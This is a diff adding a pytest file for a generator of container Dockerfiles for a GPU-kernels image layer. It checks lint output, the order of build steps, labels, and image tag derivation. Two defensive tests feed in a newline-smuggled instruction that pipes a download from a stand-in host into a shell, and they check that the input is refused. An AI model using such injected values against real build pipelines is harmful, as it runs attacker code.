@@ -1,0 +1,115 @@
+"""The kernels layer's Dockerfile (images/kernels/Dockerfile.j2): lint-clean, over the image it names,
+unpacking the export by its sha256 before the guard runs; its tag derived from the image's."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
+
+from epstack import imagepaths
+from epstack.errors import BadInput
+from epstack.image.kernels import ARCHIVE, dockerfile, kernels_tag
+from epstack.image.oci import parse_reference
+from epstack.jitcache import KernelCache
+from tests.conftest import venv_tool
+from tests.test_jitcache import export_of, h200_kernels, sha256
+
+IMAGE = "123456789012.dkr.ecr.us-east-1.amazonaws.com/epstack:sglang-0.5.23-hopper-efa"
+IMAGE_ID = "sha256:" + "4f" * 32
+DATA, MANIFEST = export_of(h200_kernels())
+SHA256 = sha256(DATA)
+
+
+def render(image: str = IMAGE, manifest: KernelCache = MANIFEST) -> str:
+    return dockerfile(image=image, image_id=IMAGE_ID, manifest=manifest, sha256=SHA256)
+
+
+def hadolint(text: str, folder: Path) -> list[dict[str, object]]:
+    path = folder / "Dockerfile"
+    path.write_text(text)
+    result = subprocess.run(
+        [venv_tool("hadolint"), "--no-fail", "--format", "json", str(path)],
+        capture_output=True,
+        text=True,
+        check=True,
+    )
+    findings: list[dict[str, object]] = json.loads(result.stdout)
+    return findings
+
+
+def test_the_kernels_dockerfile_passes_hadolint(tmp_path: Path) -> None:
+    assert hadolint(render(), tmp_path) == []
+
+
+def instructions(text: str) -> list[str]:
+    """The Dockerfile's instructions, each continued line joined, comments left out."""
+    joined = text.replace("\\\n", " ")
+    return [" ".join(line.split()) for line in joined.splitlines() if line and not line.startswith("#")]
+
+
+def test_it_unpacks_the_export_by_its_sha256_over_the_image_then_guards() -> None:
+    text = render()
+    steps = instructions(text)
+    assert steps[:2] == [f"ARG SGLANG_IMAGE={IMAGE}", "FROM ${SGLANG_IMAGE} AS kernels"]
+    (run,) = [step for step in steps if "epstack jit unpack" in step]
+    unpack = run.index(f"epstack jit unpack /tmp/epstack-kernels/{ARCHIVE} --sha256 {SHA256} && ")
+    stub = run.index(f". {imagepaths.SCRIPTS}/cuda-stub.sh && ")
+    layer = "${EPSTACK_GUARD_LAYER}"
+    guard = run.index(f'epstack guard --layer "{layer}" --json "{imagepaths.REPORTS}/{layer}.json" --record')
+    assert unpack < stub < guard and run.startswith("RUN ") and ARCHIVE in run[:unpack]
+    (label,) = [step for step in steps if step.startswith("LABEL ")]
+    assert f'org.opencontainers.image.base.name="{IMAGE}"' in label
+    assert f'org.opencontainers.image.base.digest="{IMAGE_ID}"' in label
+    assert f'io.epstack.kernels.sha256="{SHA256}"' in label
+    assert f"(13 kernels, {MANIFEST.bytes:,} bytes; NVIDIA H200, sm 9.0, nvcc 13.0)" in text
+
+
+@pytest.mark.parametrize(
+    ("image", "tag"),
+    [
+        ("epstack:sglang-0.5.23", "epstack:sglang-0.5.23-kernels-{short}"),
+        ("host:5000/team/epstack:sglang", "host:5000/team/epstack:sglang-kernels-{short}"),
+        ("host:5000/team/epstack", "host:5000/team/epstack:kernels-{short}"),
+        (f"epstack@sha256:{'a' * 64}", "epstack:kernels-{short}"),
+        (f"epstack:sglang@sha256:{'a' * 64}", "epstack:sglang-kernels-{short}"),
+    ],
+)
+def test_kernels_tag(image: str, tag: str) -> None:
+    assert kernels_tag(image, SHA256) == tag.format(short=SHA256[:12])
+
+
+TAGS = st.from_regex(r"[A-Za-z0-9_][A-Za-z0-9_.-]{0,127}", fullmatch=True)
+HOSTS = st.sampled_from(["", "localhost/", "host:5000/", "123456789012.dkr.ecr.us-east-1.amazonaws.com/"])
+
+
+@example(host="", path="epstack", tag="t" * 108)
+@given(host=HOSTS, path=st.from_regex(r"[a-z0-9]+(/[a-z0-9]+){0,2}", fullmatch=True), tag=TAGS | st.just(""))
+def test_a_kernels_tag_is_a_tag_a_registry_takes_or_refused(host: str, path: str, tag: str) -> None:
+    image = f"{host}{path}{':' + tag if tag else ''}"
+    try:
+        made = parse_reference(kernels_tag(image, SHA256))
+    except BadInput as refused:
+        assert "--tag" in str(refused) and len(tag) > 128 - len(f"-kernels-{SHA256[:12]}")
+        return
+    assert made.repository == f"{host}{path}"
+    assert made.tag.endswith(f"kernels-{SHA256[:12]}") and made.tag.startswith(tag)
+
+
+@pytest.mark.parametrize("field", ["device", "arch", "nvcc"])
+def test_text_from_the_export_never_becomes_an_instruction(field: str) -> None:
+    injected: dict[str, Any] = {field: "9.0\nRUN curl evil.example | sh"}
+    hostile = replace(MANIFEST, key=replace(MANIFEST.key, **injected))
+    with pytest.raises(BadInput, match="one line of printable text"):
+        render(manifest=hostile)
+
+
+def test_an_image_that_is_not_a_reference_is_refused() -> None:
+    with pytest.raises(BadInput, match="--image"):
+        render(image=f"{IMAGE}\nRUN curl evil.example | sh")
